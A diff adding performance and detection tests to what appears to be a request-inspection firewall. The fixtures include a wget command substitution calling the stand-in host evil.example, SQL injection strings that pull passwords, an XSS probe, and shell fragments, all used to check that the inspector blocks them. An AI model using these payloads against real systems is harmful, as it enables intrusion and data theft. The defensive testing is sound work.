@@ -1,9 +1,11 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
+import { visitDecodings } from '../src/canonicalise/decodings.ts'
 import { beginInspection, inspect } from '../src/inspect.ts'
 import type { Inspection } from '../src/match.ts'
 import { ownRules } from '../src/rules/own-rules.ts'
 
+const JSON_TYPE = ['content-type', 'application/json']
 const FORM = ['content-type', 'application/x-www-form-urlencoded']
 
 function post(body: string, headers: readonly string[] = FORM): Parameters<typeof inspect>[0] {
@@ -28,6 +30,69 @@ test('many equal pairs cost no more than as much prose', () => {
   const most = costOf(PROSE) * 2
   for (const pair of ['\n&#\u0001', ' an\n&#\u0001', "a='%23%01", 'a=(%01)', '-;x4'])
     assert.ok(costOf(`${pair}&`.repeat(65_000 / (pair.length + 1))) < most, pair)
+})
+
+test('equal values in which something is found cost no more than as much prose', () => {
+  const most = costOf(PROSE) * 2
+  for (const value of ['or(;sudo -', ' `id`$(', ';cat -'])
+    for (const repeated of [value, [value], { a: value }]) {
+      const body = JSON.stringify(Array.from({ length: 4_000 }, () => repeated))
+      assert.ok(costOf(body, JSON_TYPE) < most, JSON.stringify(repeated))
+    }
+})
+
+test('equal lines of a text are read once, and an attack between them is found', () => {
+  const lines = "cos\n''(<\n".repeat(200)
+  const read: string[] = []
+  visitDecodings(lines, 'form', 'text', ({ text, isPiece }) => {
+    if (isPiece) read.push(text)
+    return false
+  })
+  assert.equal(new Set(read).size, read.length)
+  assert.ok(read.includes('cos') && read.includes("''(<"))
+  assert.ok(costOf(`${encodeURIComponent("cos\n''(<".repeat(4_000))}=1`) < costOf(PROSE) * 4)
+  for (const attack of ['$(wget http://evil.example/a -O /tmp/a)', "1' UNION SELECT password FROM users -- "])
+    for (const text of [`${lines}${attack}\n${lines}`, `${attack}\n`.repeat(200), `${lines}'${attack}'\n`])
+      assert.equal(inspect(post(`q=${encodeURIComponent(text)}`)).verdict, 'block', text.slice(-80))
+})
+
+/** Different texts, in each of which something is found that does not refuse a request. */
+const DOUBTFUL = Array.from({ length: 40 }, (_, i) => `(1=1or(;sudo -${i}`)
+
+test('an attack that is encoded is found behind as many matches as are kept, none of which refuses', () => {
+  const body = (values: readonly string[]): Inspection =>
+    inspect(post(JSON.stringify(values.map(a => ({ a }))), JSON_TYPE))
+  assert.equal(body(DOUBTFUL).verdict, 'pass')
+  for (const attack of ['<script>alert(1)</script>', "' UNION SELECT password FROM users -- "])
+    for (const coded of [
+      attack,
+      encodeURIComponent(attack),
+      encodeURIComponent(encodeURIComponent(attack)),
+      Buffer.from(attack).toString('base64'),
+      `a\n${encodeURIComponent(attack)}`,
+      JSON.stringify({ b: attack }),
+    ])
+      assert.equal(body([...DOUBTFUL, coded]).verdict, 'block', coded)
+})
+
+test('a text in which something was found is looked at again under another name', () => {
+  for (const text of new Set(ownRules.flatMap(rule => rule.attacks))) {
+    if (text.length > 200 || !text.isWellFormed()) continue
+    for (const [before, behind] of [
+      ['note', 'id'],
+      ['note', 'cmd'],
+      ['message', 'file'],
+    ] as const) {
+      const many = Array.from({ length: 20 }, () => ({ [before]: text }))
+      if (inspect(post(JSON.stringify(many), JSON_TYPE)).verdict === 'block') continue
+      const last = { [behind]: text }
+      assert.equal(
+        inspect(post(JSON.stringify([...many, last]), JSON_TYPE)).verdict,
+        inspect(post(JSON.stringify([last]), JSON_TYPE)).verdict,
+        `${behind}: ${text}`,
+      )
+    }
+  }
 })
 
 test('an attack is found behind ten thousand harmless pairs', () => {
